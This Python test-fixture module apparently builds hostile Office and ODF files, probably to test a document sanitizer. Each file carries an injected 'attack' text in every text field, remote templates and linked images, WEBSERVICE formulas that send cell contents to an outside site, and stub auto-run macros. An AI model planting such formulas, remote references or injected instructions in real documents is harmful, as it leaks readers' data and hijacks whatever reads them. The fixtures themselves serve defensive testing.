"""Office files with an attack in every place that has a text, and with everything in them that an
Office program would fetch from `site` or run."""

import zipfile
from io import BytesIO
from xml.sax.saxutils import escape, quoteattr

from tests.documents.archives import archive
from tests.documents.phrases import FILES

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org"
PACKAGE = f"{MAIN}/package/2006/relationships"
WORD = (
    f'xmlns:w="{MAIN}/wordprocessingml/2006/main" xmlns:r="{OFFICE}" '
    f'xmlns:wp="{MAIN}/drawingml/2006/wordprocessingDrawing" '
    f'xmlns:a="{MAIN}/drawingml/2006/main" xmlns:pic="{MAIN}/drawingml/2006/picture"'
)
SHEET = f'xmlns="{MAIN}/spreadsheetml/2006/main" xmlns:r="{OFFICE}"'
SLIDE = (
    f'xmlns:p="{MAIN}/presentationml/2006/main" xmlns:r="{OFFICE}" '
    f'xmlns:a="{MAIN}/drawingml/2006/main"'
)
TABLE = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for name in ("office", "table", "text")
)


def with_entries(name: str, **entries: str) -> bytes:
    """Return one of the files with other and further entries."""
    with zipfile.ZipFile(BytesIO((FILES / name).read_bytes())) as whole:
        there: dict[str, bytes | str] = {each: whole.read(each) for each in whole.namelist()}
    return archive(**there | entries)


def relations(*external: tuple[str, str], inside: str = "") -> str:
    """Return relations to addresses, by kind and address; the ids are the kinds."""
    made = "".join(
        f'<Relationship Id="{kind}" Type="{OFFICE}/{kind}" Target={quoteattr(target)} '
        'TargetMode="External"/>'
        for kind, target in external
    )
    return f'<Relationships xmlns="{PACKAGE}">{made}{inside}</Relationships>'


def relation(kind: str, target: str, name: str = "") -> str:
    return f'<Relationship Id="{name or kind}" Type="{OFFICE}/{kind}" Target="{target}"/>'


def properties(attack: str) -> str:
    return (
        '<cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/" '
        f'xmlns:cp="{MAIN}/package/2006/metadata/core-properties"><dc:title>{escape(attack)}'
        f"</dc:title><dc:creator>{escape(attack)}</dc:creator></cp:coreProperties>"
    )


def docx(attack: str, site: str) -> bytes:
    """With macros, as a .docm has them, a template and an image elsewhere, and a field that asks
    for one."""
    paragraphs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>'
        for line in attack.split("\n")
    )
    image = (
        f"<w:p><w:r><w:drawing><wp:inline><wp:docPr id='1' name='x' descr={quoteattr(attack)}/>"
        "<a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link='image'/></pic:blipFill>"
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    body = (
        f"{paragraphs}{image}<w:p><w:r><w:commentReference w:id='0'/></w:r><w:r><w:instrText>"
        f'INCLUDEPICTURE "{site}/field.png"</w:instrText></w:r>'
        "<w:hyperlink r:id='hyperlink'><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>"
    )
    comment = f'<w:comment w:id="0" w:author={quoteattr(attack)}>{paragraphs}</w:comment>'
    links = (("image", f"{site}/a.png"), ("hyperlink", f"{site}/?q=secret"))
    return with_entries(
        "report.docx",
        **{
            "word/document.xml": f"<w:document {WORD}><w:body>{body}</w:body></w:document>",
            "word/comments.xml": f"<w:comments {WORD}>{comment}</w:comments>",
            "word/_rels/document.xml.rels": relations(
                *links,
                inside=relation("comments", "comments.xml") + relation("styles", "styles.xml"),
            ),
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{site}/a.dotm")),
            "word/vbaProject.bin": "Sub AutoOpen() Shell",
            "docProps/core.xml": properties(attack),
        },
    )


def xlsx(attack: str, site: str) -> bytes:
    """With macros, formulas that fetch, a link to another book, and comments."""
    rows = "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>{escape(line)}</t></is></c></row>'
        for row, line in enumerate(attack.split("\n"), start=1)
    )
    formula = escape(f'WEBSERVICE("{site}/?q="&A1)')
    rows += f'<row r="99"><c r="A99"><f>{formula}</f><v>7</v></c></row>'
    links = f'<hyperlinks><hyperlink ref="A1" r:id="hyperlink" tooltip={quoteattr(attack)}/>'
    comment = f'<comment ref="A1" authorId="0"><text><t>{escape(attack)}</t></text></comment>'
    return with_entries(
        "data.xlsx",
        **{
            "xl/workbook.xml": f"<workbook {SHEET}><sheets><sheet name={quoteattr(attack)} "
            'sheetId="1" r:id="rId2"/></sheets><externalReferences><externalReference '
            'r:id="externalLinkPath"/></externalReferences></workbook>',
            "xl/worksheets/sheet1.xml": f"<worksheet {SHEET}><sheetData>{rows}</sheetData>"
            f"{links}</hyperlinks></worksheet>",
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("hyperlink", f"{site}/link"), inside=relation("comments", "../comments1.xml")
            ),
            "xl/comments1.xml": f"<comments {SHEET}><commentList>{comment}</commentList>"
            "</comments>",
            "xl/vbaProject.bin": "Sub Workbook_Open() Shell",
            "docProps/core.xml": properties(attack),
        },
    )


def pptx(attack: str, site: str) -> bytes:
    """With macros, and images, films and links elsewhere."""
    lines = "".join(
        f"<a:p><a:r><a:t>{escape(line)}</a:t></a:r></a:p>" for line in attack.split("\n")
    )
    shape = (
        f"<p:sp><p:nvSpPr><p:cNvPr id='2' name='x' descr={quoteattr(attack)}><a:hlinkClick "
        "r:id='hyperlink'/></p:cNvPr><p:nvPr/></p:nvSpPr><p:txBody>"
        f"{lines}</p:txBody></p:sp><p:pic><p:blipFill><a:blip r:link='image'/></p:blipFill></p:pic>"
    )
    notes = f"<p:notes {SLIDE}><p:cSld><p:spTree>{shape}</p:spTree></p:cSld></p:notes>"
    addresses = [(kind, f"{site}/{kind}") for kind in ("image", "video", "hyperlink")]
    return with_entries(
        "slides.pptx",
        **{
            "ppt/slides/slide1.xml": f"<p:sld {SLIDE}><p:cSld><p:spTree>{shape}</p:spTree></p:cSld>"
            "</p:sld>",
            "ppt/slides/_rels/slide1.xml.rels": relations(
                *addresses, inside=relation("notesSlide", "../notesSlides/notesSlide1.xml")
            ),
            "ppt/notesSlides/notesSlide1.xml": notes,
            "ppt/vbaProject.bin": "Sub OnSlideShowPageChange() Shell",
            "docProps/core.xml": properties(attack),
        },
    )


def ods(attack: str, site: str) -> bytes:
    """With comments, and with formulas that fetch."""
    cells = "".join(
        f"<table:table-row><table:table-cell office:value-type='string'><office:annotation><text:p>"
        f"{escape(line)}</text:p></office:annotation><text:p>{escape(line)}</text:p>"
        "</table:table-cell></table:table-row>"
        for line in attack.split("\n")
    )
    formula = escape(f'of:=WEBSERVICE("{site}")', {'"': "&quot;"})
    fetching = (
        f"<table:table-cell table:formula='{formula}' office:value-type='float' office:value='7'/>"
    )
    return with_entries(
        "data.ods",
        **{
            "content.xml": f"<office:document-content {TABLE}><office:body><office:spreadsheet>"
            f"<table:table table:name={quoteattr(attack)}>{cells}<table:table-row>{fetching}"
            "</table:table-row></table:table></office:spreadsheet></office:body>"
            "</office:document-content>",
        },
    )
